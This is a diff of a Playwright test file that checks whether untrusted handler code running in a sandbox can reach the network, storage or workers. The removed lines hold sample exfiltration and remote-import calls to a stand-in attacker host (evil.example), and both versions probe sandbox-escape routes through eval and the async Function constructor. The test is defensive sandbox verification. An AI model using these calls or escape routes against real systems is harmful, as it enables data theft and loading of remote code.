@@ -1,11 +1,25 @@
 /** A link is a stranger's code: what it tries to reach from an execution environment, and what it gets. */
 
 import { expect, test } from '@playwright/test'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { invoke, openProject, projectOf } from '../coldstart'
 
+/** A server that would answer anybody, and counts who comes. */
+async function openServer(): Promise<{ url: string; hits: string[]; close: () => void }> {
+  const hits: string[] = []
+  const server = createServer((request, response) => {
+    hits.push(request.url ?? '')
+    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' })
+    response.end('export default 1')
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const { port } = server.address() as AddressInfo
+  return { url: `http://127.0.0.1:${port}`, hits, close: () => server.close() }
+}
+
 test('a handler reaches no network, no storage and no worker', async ({ page }) => {
-  const requests: string[] = []
-  page.on('request', (request) => requests.push(request.url()))
+  const server = await openServer()
   await openProject(
     page,
     projectOf(`
@@ -18,26 +32,28 @@ test('a handler reaches no network, no storage and no worker', async ({ page }) 
           return { refused: String((error as Error)?.name ?? error) }
         }
       }
-      export const handler = async () => ({
-        present: ['XMLHttpRequest', 'WebSocket', 'WebSocketStream', 'EventSource', 'WebTransport', 'BroadcastChannel', 'Worker',
-          'SharedWorker', 'importScripts', 'indexedDB', 'caches', 'navigator.storage', 'postMessage', 'onmessage', 'close', 'location', 'parent', 'top']
-          .filter((name) => name.split('.').reduce((value, key) => value?.[key], globalThis as any) !== undefined),
-        fetched: await attempt(() => fetch('https://evil.example/steal')),
-        imported: await attempt(() => import(/* @vite-ignore */ ('https://evil.example/' + 'module.js') as string)),
-        evaluated: await attempt(() => (0, eval)('import("https://evil.example/eval.js")')),
-        constructed: await attempt(() => new (Object.getPrototypeOf(async () => {}).constructor)('return import("https://evil.example/constructed.js")')()),
-        listened: await attempt(() => globalThis.addEventListener?.('message', () => {})),
+      const NAMES = 'XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport BroadcastChannel Worker SharedWorker ' +
+        'importScripts indexedDB caches postMessage onmessage close location parent top self'
+      const AsyncFunction = Object.getPrototypeOf(async () => {}).constructor
+      export const handler = async ({ url }: { url: string }) => ({
+        present: NAMES.split(' ').filter((name) => globalThis[name] !== undefined),
+        storage: (globalThis.navigator as any)?.storage === undefined,
+        fetched: await attempt(async () => (await fetch(url + '/fetch')).status),
+        evaluated: await attempt(() => (0, eval)('import(' + JSON.stringify(url + '/eval.js') + ')')),
+        constructed: await attempt(() => new AsyncFunction('return import(' + JSON.stringify(url + '/constructed.js') + ')')()),
       })`),
   )
-  requests.length = 0
-  const answer = JSON.parse((await invoke(page)).Payload) as Record<string, { got?: string; refused?: string }> & {
-    present: string[]
-  }
-  expect(answer.present).toEqual([])
-  for (const name of ['imported', 'evaluated', 'constructed']) expect(answer[name]).toHaveProperty('refused')
-  // Nothing answers for that host here: an answer of the simulated endpoint, or a failed connection.
-  expect(answer['fetched']?.got ?? 'refused').not.toContain('stolen')
-  expect(requests.filter((url) => url.includes('evil.example'))).toEqual([])
+  const answer = JSON.parse((await invoke(page, { url: server.url })).Payload) as Record<string, unknown>
+  expect(answer).toEqual({
+    present: [],
+    storage: true,
+    // The simulated endpoint answers for hosts that are not simulated.
+    fetched: { got: '501' },
+    evaluated: { refused: expect.any(String) as string },
+    constructed: { refused: expect.any(String) as string },
+  })
+  expect(server.hits).toEqual([])
+  server.close()
 })
 
 test('a handler that patches every prototype it finds gets no message of the control channel', async ({ page }) => {
